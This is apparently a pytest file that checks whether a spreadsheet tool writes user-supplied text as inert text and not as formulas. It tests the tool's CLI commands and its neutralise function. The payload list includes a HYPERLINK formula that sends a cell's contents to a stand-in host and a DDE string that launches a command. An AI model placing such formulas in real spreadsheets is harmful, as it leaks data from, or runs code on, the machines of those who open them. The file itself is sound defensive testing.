"""User text that a spreadsheet would run (`=`, `+`, `-`, `@`, tab, CR) is written as text."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from click.testing import CliRunner

from pyaddin.cli.main import main
from pyaddin.run.safe_text import INJECTION_PREFIXES, neutralise

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    '=cmd|" /C calc"!A0',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+2",
]
HEADER = ["备案编号", "活动名称", "平台", "主体名称", "状态", "计划上线日期", "联系邮箱", "备注"]


def injection_tracker(path: Path) -> Path:
    """Every payload in every text-ish column, written as real text cells (not formulas)."""
    wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_numbers": False})
    ws = wb.add_worksheet("备案台账")
    ws.write_row(0, 0, HEADER)
    for r, payload in enumerate(PAYLOADS, start=1):
        for c in range(len(HEADER)):
            ws.write_string(r, c, payload)
    wb.close()
    return path


@pytest.fixture
def tracker(tmp_path) -> Path:
    return injection_tracker(tmp_path / "injection.xlsx")


def test_tracker_really_holds_text_not_formulas(tracker):
    ws = openpyxl.load_workbook(tracker)["备案台账"]
    assert ws["A2"].data_type == "s" and ws["A2"].value == PAYLOADS[0]


@pytest.mark.parametrize("command", ["validate", "deadlines", "check"])
def test_findings_xlsx_writes_user_text_as_text(tracker, tmp_path, command):
    out = tmp_path / "out"
    result = CliRunner().invoke(main, [command, str(tracker), "--out", str(out), "--today", "2026-11-20"])
    assert result.exit_code in (0, 1), result.stderr
    wb = openpyxl.load_workbook(out / "findings.xlsx")
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    if command != "deadlines":
        stripped = {p.strip() for p in PAYLOADS}
        # the 备案编号, 活动名称 and 值 columns carry the payloads verbatim
        assert stripped <= seen, stripped - seen


def test_every_payload_reaches_findings_xlsx_as_a_value(tracker, tmp_path):
    out = tmp_path / "out"
    CliRunner().invoke(main, ["validate", str(tracker), "--out", str(out), "--today", "2026-11-20"])
    ws = openpyxl.load_workbook(out / "findings.xlsx")["校验结果"]
    header = [c.value for c in ws[1]]
    setup = ("today-pinned", "rule-unverified")  # notes about the run and the rules, not about a row
    ids = {ws.cell(r, header.index("备案编号") + 1).value for r in range(2, ws.max_row + 1)
           if ws.cell(r, header.index("代码") + 1).value not in setup}
    assert ids == {p.strip() for p in PAYLOADS}


@pytest.mark.parametrize("prefix", INJECTION_PREFIXES)
def test_neutralise_quotes_formula_prefixes(prefix):
    assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize("text", ["备案编号", "BA-001", " =1", "", "'=1", "１+1"])
def test_neutralise_leaves_ordinary_text(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("value", [None, 3, -2.5, True])
def test_neutralise_passes_non_text_through(value):
    assert neutralise(value) == value


def test_weekly_report_outputs_keep_user_text_inert(tracker, tmp_path):
    out = tmp_path / "report"
    result = CliRunner().invoke(main, ["report", str(tracker), "--out", str(out), "--today", "2026-11-20"])
    assert result.exit_code in (0, 1), result.stderr
    payload_core = [p.strip()[1:] for p in PAYLOADS]
    assert list(out.rglob("*.xlsx")) and list(out.rglob("*.md"))
    for path in out.rglob("*.xlsx"):
        for ws in openpyxl.load_workbook(path).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and any(core in cell.value for core in payload_core):
                        assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
    for path in [*out.rglob("*.md"), *out.rglob("*.csv")]:
        for line in path.read_text(encoding="utf-8-sig").splitlines():
            for cell in line.replace("|", ",").split(","):
                assert not cell.strip().startswith(("=", "+", "@")), (path.name, line)
